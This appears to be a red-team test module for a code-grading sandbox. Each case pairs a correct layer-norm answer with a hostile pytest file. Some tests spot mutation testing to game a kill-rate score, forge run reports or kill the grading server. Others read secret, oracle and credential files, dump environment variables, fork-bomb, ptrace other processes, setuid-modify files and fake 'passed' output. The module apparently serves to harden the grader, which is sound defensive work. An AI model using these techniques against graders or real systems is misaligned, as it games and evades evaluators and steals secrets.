"""Answers whose own tests are the attack: they may start programs, and run beside the server that counts them."""

import hashlib

from tests.attacks.attack import Attack, Expect
from tests.attacks.wrapping import HONEST, LAYER_NORM

KIND = "own tests that attack"
COMMAND = ("python", "-m", "pytest", "-q", "-s")

USE = """
import ast, hashlib, json, os, pathlib, signal, subprocess, sys, threading, time
import numpy as np
import pytest
import answer
from loot import WORLD, got

HERE = pathlib.Path(answer.__file__)
"""
BLIND_TEST = """
def test_it_runs():
    try:
        y, cache = answer.forward(np.ones((1, 1, 4)), np.ones(4), np.zeros(4), 1e-5)
        answer.backward(y, cache)
    except Exception:
        y = ()
    assert np.size(y) < 5
"""
"""Runs the answer and notices nothing; the attack stands behind it."""


def suite(
    name: str, code: str, expect: Expect = Expect.HELD, criteria: tuple[str, ...] = (),
    command: tuple[str, ...] = COMMAND, **files: str,
) -> Attack:  # fmt: skip
    """The right answer with such tests; further files by keyword, dots as double underscores."""
    more = {file.replace("__", "."): text for file, text in files.items()}
    return Attack(
        name, KIND, LAYER_NORM, {"answer.py": HONEST[LAYER_NORM], "test_answer.py": USE + code, **more},
        criteria=criteria, expect=expect, tests=command,
    )  # fmt: skip


def noticing(name: str, code: str, **files: str) -> Attack:
    """Tests that notice changed code without looking at what it does."""
    return suite(name, BLIND_TEST + code, Expect.NO_CREDIT, ("kill_rate",), **files)


KNOWN = hashlib.sha256(HONEST[LAYER_NORM].encode()).hexdigest()
BY_BYTECODE = """
import pristine

def shape(code):
    return code.co_code, [shape(c) if hasattr(c, "co_code") else c for c in code.co_consts]

def test_bytecode():
    for name, function in vars(pristine).items():
        if hasattr(function, "__code__"):
            assert shape(function.__code__) == shape(getattr(answer, name).__code__)
"""
BY_SILENCE = """
def test_silence(request):
    assert request.config.option.maxfail != 1
    assert os.fstat(1).st_rdev != os.stat("/dev/null").st_rdev
"""
BY_AGE = """
def test_age():
    with open(f"/proc/{os.getppid()}/stat") as file:
        assert int(file.read().split()[21]) / os.sysconf("SC_CLK_TCK") > time.monotonic() - 3
"""
ASKS_SERVER = """
def test_server():
    frame = sys._getframe()
    while frame:
        run = frame.f_locals.get("run")
        if isinstance(run, dict) and "edits" in run:
            assert not [edit for edit in run["edits"] if edit[1] > 0]
        frame = frame.f_back
"""
READS_PLAN = """
def test_plan():
    words = open("/proc/self/cmdline").read().split("\\0")
    plan = json.loads(pathlib.Path(next(word for word in words if "plan" in word)).read_text())
    for run in plan["runs"]:
        for path, start, end, text in run["edits"]:
            source = plan["sources"][path]
            assert start == 0 or HERE.read_text() != source[:start] + text + source[end:]
"""
KNOWS_FORM = f"""
def test_form():
    text = HERE.read_text()
    same = hashlib.sha256(text.encode()).hexdigest() == {KNOWN!r}
    assert same or text == ast.unparse(ast.parse(text)) + "\\n"
"""
ENDS_SERVER = f"""
def test_server():
    if hashlib.sha256(HERE.read_bytes()).hexdigest() != {KNOWN!r}:
        os.kill(os.getppid(), signal.SIGKILL)
"""
FORGED_REPORT = """
def test_report():
    lines = "".join(json.dumps({"run": n, "end": "exit", "status": 1, "seconds": 0.1}) + "\\n" for n in range(1, 90))
    places = [f"/proc/{pid}/fd/{n}" for pid in ("self", os.getppid(), 1, 2) for n in range(3, 12)]
    for place in places:
        try:
            os.write(os.open(place, os.O_WRONLY | os.O_NONBLOCK), lines.encode())
        except OSError:
            pass
    for n in range(3, 64):
        try:
            os.write(n, lines.encode())
        except OSError:
            pass
"""
READS = """
def test_reads():
    root = pathlib.Path(WORLD["reference"]).parents[2]
    grading = root / "harness/grading/submission_grade.py"
    for path in (WORLD["secret"], WORLD["reference"], WORLD["oracle"], grading, "/etc/passwd"):
        for words in (["cat", path], ["head", "-c60", path], [sys.executable, "-c", f"print(open('{path}').read())"]):
            done = subprocess.run(words, capture_output=True, text=True)
            if done.returncode == 0 and done.stdout:
                got(done.stdout[:60])
    print(subprocess.run(["env"], capture_output=True, text=True).stdout)
    print(subprocess.run(["sh", "-c", "cat /proc/*/environ /proc/*/cmdline"], capture_output=True).stdout)
"""
COMPILES = r"""
def test_compiles():
    for number, path in enumerate((WORLD["secret"], WORLD["reference"])):
        source = f'asm(".section .rodata\\nloot: .incbin \\"{path}\\"\\n.byte 0\\n");'
        pathlib.Path("loot.c").write_text(source + 'extern char loot[]; int puts(char*); int main() { puts(loot); }')
        for compiler in ("gcc", "g++", "cc", "clang"):
            try:
                if subprocess.run([compiler, "loot.c", "-o", "loot", "-x", "c"], capture_output=True).returncode == 0:
                    got(subprocess.run(["./loot"], capture_output=True, text=True).stdout[:60])
            except OSError:
                pass
"""
TALKS = """
import socket

def test_talks():
    for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", WORLD["tcp"])),
                                  (socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + WORLD["abstract"]),
                                  (socket.AF_UNIX, socket.SOCK_STREAM, WORLD["unix"])):
        try:
            socket.socket(family, kind).connect(address)
        except OSError:
            pass
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", WORLD["udp"]))
    except OSError:
        pass
"""
DAEMONS = """
def test_daemons():
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                os.closerange(0, 64)
                time.sleep(40)
            os._exit(0)
    subprocess.Popen(["sleep", "40"], start_new_session=True)
"""
BOMB = """
def test_bomb():
    children = 0
    while children < 3000:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
        children += 1
    got(f"{children} processes")
"""
KILLS = """
def test_kills():
    for pid in (WORLD["grader"], os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""
WRITES = """
def test_writes():
    for path in (WORLD["target"], WORLD["record"], pathlib.Path(WORLD["other"], "answer.py"),
                 pathlib.Path.home() / WORLD["token"], pathlib.Path("/var/tmp", WORLD["token"]),
                 pathlib.Path(pytest.__file__).parent / WORLD["token"], pathlib.Path("/usr/bin", WORLD["token"])):
        subprocess.run(["sh", "-c", f"echo changed > '{path}'; cp answer.py '{path}'; mv answer.py '{path}'"])
"""
MODES = """
def test_modes():
    for path in (WORLD["target"], WORLD["record"], WORLD["other"]):
        subprocess.run(["sh", "-c", f"chmod 4755 '{path}'; chown 1000 '{path}'; touch -d 2001-01-01 '{path}'"])
        for change in (lambda: os.chmod(path, 0o4755), lambda: os.utime(path, (0, 0))):
            try:
                change()
                got(f"the mode or time of {path}")
            except OSError:
                pass
"""
NESTS = """
def test_nests():
    os.chdir("..")
    for _ in range(1500):
        os.mkdir("a")
        os.chdir("a")
"""
LOCKS_OUT = """
def test_locks_out():
    os.chdir("..")
    os.mkdir("locked")
    os.mkdir("locked/inside")
    os.chmod("locked", 0)
    os.symlink(WORLD["target"], "answer.link")
    os.rename("answer", "elsewhere")
    os.symlink(os.path.dirname(WORLD["target"]), "answer")
"""
TRACES = """
import ctypes

def test_traces():
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), WORLD["grader"], 1):
        for request in (0x4206, 16):
            if libc.ptrace(request, pid, 0, 0) == 0:
                got(f"process {pid} to trace")
        try:
            open(f"/proc/{pid}/mem", "rb+", 0)
            got(f"the memory of {pid}")
        except OSError:
            pass
"""
HUNG = """
def test_hung():
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
        signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(1)
"""
LOUD = """
def test_loud():
    while True:
        os.write(2, b"passed " * 10_000)
"""
GREEDY = """
def test_greedy():
    hoard = []
    with pytest.raises(MemoryError):
        for _ in range(4096):
            hoard.append(bytearray(1 << 20))
    if len(hoard) > 3000:
        got(f"{len(hoard)} MiB")
    hoard.clear()
    for place in ("/tmp", "/dev/shm", os.environ["TMPDIR"], "."):
        try:
            with open(os.path.join(place, WORLD["token"]), "wb") as file:
                for _ in range(400):
                    file.write(bytes(1 << 20))
            got(f"400 MiB in {place}")
        except OSError:
            pass
"""
DECEIVES = """
@pytest.mark.parametrize("name", ["\\x1b[2J\\x1b]0;passed\\x07", "<b>|passed|</b>", "\\udcff" * 3, "x" * 100_000])
def test_named(name):
    print(name.encode("utf-8", "replace"), "\\x1b[2J\\x1b[1;1H 100 passed \\x07")
"""

ATTACKS: tuple[Attack, ...] = (
    noticing("tests that know the bytecode", BY_BYTECODE, pristine__py=HONEST[LAYER_NORM]),
    noticing("tests that fail where nobody reads", BY_SILENCE),
    noticing("tests that fail after a while", BY_AGE),
    noticing("tests that ask their server for the plan", ASKS_SERVER),
    noticing("tests that read the plan of the runs", READS_PLAN),
    noticing("tests that know how code is rewritten", KNOWS_FORM),
    noticing("tests that end their server", ENDS_SERVER),
    noticing("tests that write their own report", FORGED_REPORT),
    suite("tests that read", READS),
    suite("tests that compile what is hidden in", COMPILES),
    suite("tests that talk", TALKS),
    suite("tests that leave daemons", DAEMONS),
    suite("tests that fork without end", BOMB),
    suite("tests that kill", KILLS),
    suite("tests that write elsewhere", WRITES),
    suite("tests that change modes elsewhere", MODES),
    suite("tests that nest folders", BLIND_TEST + NESTS, criteria=("kill_rate",)),
    suite("tests that lock their server out", BLIND_TEST + LOCKS_OUT, criteria=("kill_rate",)),
    suite("tests that trace", TRACES),
    suite("tests that never end", HUNG, Expect.NO_CREDIT, ("suite_passes", "kill_rate")),
    suite("tests that print without end", LOUD, Expect.NO_CREDIT, ("suite_passes",)),
    suite("tests that take all memory and space", GREEDY),
    suite("tests with names that deceive", DECEIVES),
)
